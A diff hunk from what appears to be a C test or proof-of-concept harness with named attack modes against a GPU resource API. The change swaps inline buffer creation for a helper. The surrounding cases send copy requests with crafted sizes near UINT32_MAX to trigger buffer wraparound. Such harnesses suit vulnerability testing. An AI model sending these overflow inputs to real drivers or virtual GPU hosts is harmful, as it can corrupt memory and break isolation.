@@ -89,14 +89,7 @@ main(int argc, char **argv)
       copy(&ctx, b, 0, a, UINT32_MAX, (struct mgp_box){0, 0, 0, 1, 1, 1});
    } else if (!strcmp(attack, "copy-buffer-wrap")) {
       for (uint32_t slot = 7; slot <= 8; slot++)
-         mgp_resource_create(scr, &(struct mgp_resource_desc){.res = {slot, 1},
-                                                              .target = MGP_RESOURCE_TARGET_BUFFER,
-                                                              .width = 64,
-                                                              .height = 1,
-                                                              .depth = 1,
-                                                              .array_layers = 1,
-                                                              .size = 64,
-                                                              .bind_mask = MGP_BIND_VERTEX});
+         attack_buffer_64(scr, slot, MGP_BIND_VERTEX);
       copy(&ctx, (struct mgp_handle){8, 1}, 0, (struct mgp_handle){7, 1}, 0,
            (struct mgp_box){32, 0, 0, UINT32_MAX - 15, 1, 1});
    } else if (!strcmp(attack, "subdata-layers")) {
